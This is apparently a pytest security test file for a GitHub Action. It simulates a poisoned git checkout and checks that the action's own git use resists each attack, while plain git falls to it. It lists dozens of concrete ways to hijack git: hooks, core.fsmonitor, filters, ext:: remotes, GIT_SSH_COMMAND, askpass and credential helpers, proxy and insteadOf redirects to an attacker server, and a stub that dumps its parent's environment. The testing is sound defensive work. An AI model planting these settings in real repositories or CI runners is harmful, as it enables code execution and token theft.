"""A poisoned checkout: an earlier step wrote ``.git``, HOME or the environment, and wants a program run, or the token.

Each attack is tried on us, then on the user's own git in the same checkout, where it must succeed: the remote is HTTP,
answers 401 without the token, and the program and the server of the attacker write down what they get.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from gh_store_action.errors import StoreError
from gh_store_action.workspace.files import Publication, Published, Workspace
from tests.support import git as real
from tests.support.git import GitServer

pytestmark = pytest.mark.slow

TOKEN = "ghs_tokenOfTheAction"
STORE = "data/store.json"
BASE = {"README.md": "base\n", "src/a.py": "a\n"}


@dataclass
class Scene:
    """A checkout of a repository behind HTTP, and an attacker with a program and a server."""

    folder: Path
    remote: Path
    checkout: Path
    server: GitServer
    theirs: GitServer
    environ: dict[str, str] = field(default_factory=dict)

    @property
    def program(self) -> Path:
        return self.folder / "attacker/program"

    @property
    def ran(self) -> str:
        """What the attacker's program saw: its arguments, its environment, and that of who started it."""
        record = self.program.with_name("record")
        return record.read_text(errors="replace") if record.exists() else ""

    @property
    def got(self) -> list[str]:
        """The credentials that the attacker's server got."""
        return [value for request in self.theirs.requests for value in request.authorizations]

    def configure(self, values: Mapping[str, str], *where: str) -> None:
        for key, value in values.items():
            real.git(self.checkout, "config", *where, "--add", key, self.fill(value))

    def fill(self, text: str) -> str:
        return text.format(program=self.program, theirs=self.theirs.url, server=self.server.url, folder=self.folder)

    def workspace(self, token: str = TOKEN) -> Workspace:
        environ = {"PATH": os.environ["PATH"], "HOME": "/nonexistent", "INPUT_TOKEN": token, **self.environ}
        return Workspace(self.checkout, environ, self.server.url, token, lambda _: None)

    def save(self, token: str = TOKEN) -> Published:
        """What a run does: look at what is committed here and there, write, commit, push."""
        workspace = self.workspace(token)
        workspace.committed(STORE, Publication(()), tip=False)
        real.on_branch(workspace, STORE)
        workspace.write({STORE: b"{}\n"})
        workspace.check_attributes([STORE])
        return workspace.publish(Publication((STORE,), message="Update the snapshot"))

    def naive(self) -> None:
        """The same with the user's own git and its configuration, the token in a header in memory."""
        git = ["-c", f"http.extraHeader=AUTHORIZATION: {real.basic(TOKEN)}"]
        environment = {**real.ENVIRONMENT, **self.environ}
        if "HOME" in self.environ:
            del environment["GIT_CONFIG_GLOBAL"]
        real.put(self.checkout, {"README.md": "changed\n"})
        for command in (
            ("diff",),
            ("rev-parse", "HEAD^{commit}"),
            ("cat-file", "-e", "HEAD^{commit}"),
            ("fetch", "origin"),
            ("add", "README.md"),
            ("commit", "-m", "x"),
            ("push", "origin", "HEAD:main"),
        ):
            subprocess.run(
                ["git", *git, *command],
                cwd=self.checkout,
                env=environment,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                check=False,
                timeout=60,
            )


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    remote = real.make_bare_remote(tmp_path / "remotes/octo/store.git", BASE)
    checkout = real.clone(remote, tmp_path / "checkout", "--depth=1")
    with (
        GitServer(tmp_path / "remotes", token=TOKEN) as server,
        GitServer(tmp_path / "remotes", token="whichever") as theirs,
    ):
        real.git(checkout, "remote", "set-url", "origin", f"{server.url}/octo/store.git")
        real.push(remote, {"others": "1\n"})
        real.git(checkout, "config", "gc.auto", "0")
        found = Scene(tmp_path, remote, checkout, server, theirs)
        found.program.parent.mkdir()
        write_program(found.program)
        yield found


def write_program(program: Path, then: str = "exit 1") -> None:
    """It writes down its arguments, its environment and that of the process that started it."""
    record = program.with_name("record")
    parents = "tr '\\0' '\\n' </proc/$PPID/environ"
    program.write_text(f'#!/bin/sh\n{{ echo "RAN $0 $*"; env; {parents}; }} >>{record} 2>&1\n{then}\n')
    program.chmod(0o755)


# ---- what attackers write


def settings(**values: str) -> Callable[[Scene], None]:
    """Entries of ``.git/config``; `__` is a point, and `{program}`, `{theirs}`, `{server}` are filled in."""
    return lambda scene: scene.configure({scene.fill(key.replace("__", ".")): value for key, value in values.items()})


def hook(scene: Scene) -> None:
    for name in ("pre-push", "reference-transaction", "post-index-change"):
        shutil.copy(scene.program, scene.checkout / ".git/hooks" / name)


def hooks_path(scene: Scene) -> None:
    hook(scene)
    shutil.move(scene.checkout / ".git/hooks", scene.folder / "hooks")
    scene.configure({"core.hooksPath": "{folder}/hooks"})


def filters(scene: Scene) -> None:
    (scene.checkout / ".git/info").mkdir(exist_ok=True)
    (scene.checkout / ".git/info/attributes").write_text("README.md filter=evil diff=evil\n")
    for kind in ("clean", "smudge", "process"):
        scene.configure({f"filter.evil.{kind}": "{program}", "diff.evil.textconv": "{program}"})


def proxy(*keys: str) -> Callable[[Scene], None]:
    return lambda scene: scene.configure(
        {**{scene.fill(key): "{theirs}" for key in keys}, "http.sslVerify": "false", "http.proxyAuthMethod": "basic"}
    )


def rewritten(*keys: str) -> Callable[[Scene], None]:
    return lambda scene: scene.configure({scene.fill(f"url.{{theirs}}/.{key}"): "{server}/" for key in keys})


def included(scene: Scene) -> None:
    real.git(scene.checkout, "config", "-f", str(scene.folder / "more"), "core.fsmonitor", str(scene.program))
    scene.configure({"include.path": "{folder}/more"})


def included_if(scene: Scene) -> None:
    real.git(scene.checkout, "config", "-f", str(scene.folder / "more"), "core.fsmonitor", str(scene.program))
    scene.configure({f"includeIf.gitdir:{scene.checkout}/.git.path": "{folder}/more"})


def of_the_worktree(scene: Scene) -> None:
    scene.configure({"extensions.worktreeConfig": "true", "core.repositoryFormatVersion": "1"}, "--local")
    scene.configure({"core.fsmonitor": "{program}"}, "--worktree")


def pointed_elsewhere(scene: Scene) -> None:
    shutil.move(scene.checkout / ".git", scene.folder / "elsewhere")
    (scene.checkout / ".git").write_text(f"gitdir: {scene.folder}/elsewhere\n")
    scene.configure({"core.fsmonitor": "{program}"})


def shared_elsewhere(scene: Scene) -> None:
    shutil.copytree(scene.checkout / ".git", scene.folder / "common")
    (scene.checkout / ".git/commondir").write_text(f"{scene.folder}/common\n")
    scene.configure({"core.fsmonitor": "{program}"})


def alternates(scene: Scene) -> None:
    other = real.clone(scene.remote, scene.folder / "other")
    (scene.checkout / ".git/objects/info/alternates").write_text(f"{other}/.git/objects\n")
    scene.configure({"core.alternateRefsCommand": "{program}"})


def remote_helper(scene: Scene) -> None:
    (scene.folder / "bin").mkdir()
    shutil.copy(scene.program, scene.folder / "bin/git-remote-evil")
    scene.environ["PATH"] = f"{scene.folder}/bin:{os.environ['PATH']}"
    scene.configure({"remote.origin.vcs": "evil"})


def by_ssh(scene: Scene) -> None:
    """Of the own server, as actions/checkout with `ssh-key` leaves it."""
    scene.configure({"core.sshCommand": "{program}", "remote.origin.promisor": "true"})
    real.git(scene.checkout, "remote", "set-url", "origin", "git@127.0.0.1:octo/store.git")


def local(scene: Scene) -> None:
    scene.configure({"remote.origin.uploadpack": "{program}", "remote.origin.receivepack": "{program}"})
    real.git(scene.checkout, "remote", "set-url", "origin", str(scene.remote))


def home(scene: Scene) -> None:
    (scene.folder / "home/.config/git").mkdir(parents=True)
    for file, key in ((".gitconfig", "core.fsmonitor"), (".config/git/config", "core.hooksPath")):
        real.git(scene.checkout, "config", "-f", f"{scene.folder}/home/{file}", key, str(scene.program))
    scene.environ |= {"HOME": f"{scene.folder}/home", "XDG_CONFIG_HOME": f"{scene.folder}/home/.config"}


def variables(**values: str) -> Callable[[Scene], None]:
    return lambda scene: scene.environ.update({name: scene.fill(value) for name, value in values.items()})


def ssh_by_variable(scene: Scene) -> None:
    by_ssh(scene)
    real.git(scene.checkout, "config", "--unset", "core.sshCommand")
    variables(GIT_SSH_COMMAND="{program}")(scene)


def exec_path(scene: Scene) -> None:
    place = scene.folder / "exec"
    place.mkdir()
    for name in ("git-remote-http", "git-remote-https"):
        shutil.copy(scene.program, place / name)
    scene.environ["GIT_EXEC_PATH"] = str(place)


def path_of_the_temporary_folder(scene: Scene) -> None:
    (scene.folder / "temp/bin").mkdir(parents=True)
    shutil.copy(scene.program, scene.folder / "temp/bin/git")
    scene.environ |= {
        "RUNNER_TEMP": f"{scene.folder}/temp",
        "PATH": f"{scene.folder}/temp/bin:{scene.checkout}:{os.environ['PATH']}",
    }


HARMLESS = {
    "a hook": hook,
    "core.hooksPath": hooks_path,
    "core.fsmonitor": settings(core__fsmonitor="{program}"),
    "filters": filters,
    "diff.external": settings(diff__external="{program}"),
    "gpg.program": settings(gpg__program="{program}", commit__gpgSign="true", push__gpgSign="true"),
    "include.path": included,
    "includeIf": included_if,
    "extensions.worktreeConfig": of_the_worktree,
    "a .git file": pointed_elsewhere,
    "commondir": shared_elsewhere,
    "core.alternateRefsCommand": alternates,
    "remote.*.vcs": remote_helper,
    "core.sshCommand": by_ssh,
    "GIT_SSH_COMMAND": ssh_by_variable,
    "remote.*.uploadpack": local,
    "http.proxy": proxy("http.proxy"),
    "http.<server>.proxy": proxy("http.{server}/.proxy"),
    "remote.*.proxy": proxy("remote.origin.proxy"),
    "url.*.insteadOf": rewritten("insteadOf"),
    "url.*.pushInsteadOf": rewritten("pushInsteadOf"),
    "HOME": home,
    "PATH": path_of_the_temporary_folder,
    "GIT_CONFIG_COUNT": variables(
        GIT_CONFIG_COUNT="1", GIT_CONFIG_KEY_0="core.fsmonitor", GIT_CONFIG_VALUE_0="{program}"
    ),
    "GIT_CONFIG_PARAMETERS": variables(GIT_CONFIG_PARAMETERS="'core.fsmonitor={program}'"),
    "GIT_EXTERNAL_DIFF": variables(GIT_EXTERNAL_DIFF="{program}"),
    "GIT_EXEC_PATH": exec_path,
    "GIT_TRACE_CURL": variables(GIT_TRACE_CURL="{folder}/attacker/record", GIT_TRACE_REDACT="0"),
    "http_proxy": variables(http_proxy="{theirs}"),
    "ALL_PROXY": variables(ALL_PROXY="{theirs}"),
}


@pytest.mark.parametrize("attack", HARMLESS)
def test_poison__of_any_kind__has_no_part_in_what_is_done(scene: Scene, attack: str) -> None:
    HARMLESS[attack](scene)

    published = scene.save()

    assert (scene.ran, scene.theirs.requests) == ("", [])
    assert real.files(scene.remote) == {**BASE, "others": "1\n", STORE: "{}\n"}
    assert real.git(scene.remote, "rev-parse", "main").strip() == published.sha
    scene.naive()
    assert scene.ran or scene.got, "the attack is none"


# ---- a way in that is not the one by HTTPS to this GitHub


def addressed(address: str, **more: str) -> Callable[[Scene], None]:
    def poison(scene: Scene) -> None:
        settings(**more)(scene)
        real.git(scene.checkout, "remote", "set-url", "origin", scene.fill(address))

    return poison


def pushed_elsewhere(scene: Scene) -> None:
    scene.configure({"remote.origin.pushurl": "{theirs}/octo/store.git"})


def missing_commit(scene: Scene) -> None:
    """Git fetches by itself what a partial clone has not, whatever command asks for it."""
    addressed("git@elsewhere:octo/store.git", core__sshCommand="{program}", remote__origin__promisor="true")(scene)
    (scene.checkout / ".git/refs/heads/main").write_text("d" * 40)


def refused(*keys: str, **more: str) -> Callable[[Scene], None]:
    def poison(scene: Scene) -> None:
        scene.server.token = "another"
        scene.environ |= {name: scene.fill(value) for name, value in more.items()}
        scene.configure(dict.fromkeys(map(scene.fill, keys), "{program}"))

    return poison


def a_local_path(scene: Scene) -> None:
    """A repository of the attacker's, whose hooks a push to it would run."""
    evil = real.make_bare_remote(scene.folder / "evil.git", BASE)
    shutil.copy(scene.program, real.add_hook(evil, "pre-receive", ""))
    addressed(str(evil))(scene)
    scene.environ["GITHUB_ACTIONS"] = "true"


REFUSED = {
    "ext::": addressed("ext::{program} %S", protocol__ext__allow="always"),
    "core.gitProxy": addressed("git://127.0.0.1/octo/store.git", core__gitProxy="{program}"),
    "GIT_PROXY_COMMAND": lambda scene: (
        addressed("git://127.0.0.1/octo/store.git")(scene),
        scene.environ.update(GIT_PROXY_COMMAND=str(scene.program)),
    ),
    "core.sshCommand": addressed("git@elsewhere:octo/store.git", core__sshCommand="{program}"),
    "another server": addressed("{theirs}/octo/store.git"),
    "another server for the push": pushed_elsewhere,
    "a missing commit": missing_commit,
    "a local path": a_local_path,
    "credential.helper": refused("credential.helper"),
    "credential.<server>.helper": refused("credential.{server}.helper"),
    "core.askPass": refused("core.askPass"),
    "GIT_ASKPASS": refused(GIT_ASKPASS="{program}"),
    "SSH_ASKPASS": refused(SSH_ASKPASS="{program}"),
}


@pytest.mark.parametrize("attack", REFUSED)
def test_poison__of_the_way_in__is_refused_and_nobody_gets_the_token(scene: Scene, attack: str) -> None:
    REFUSED[attack](scene)

    with pytest.raises(StoreError) as caught:
        scene.save()

    assert (scene.ran, scene.got) == ("", [])
    assert TOKEN not in str(caught.value) and "\n" not in str(caught.value)
    scene.naive()
    assert scene.ran or scene.got, "the attack is none"
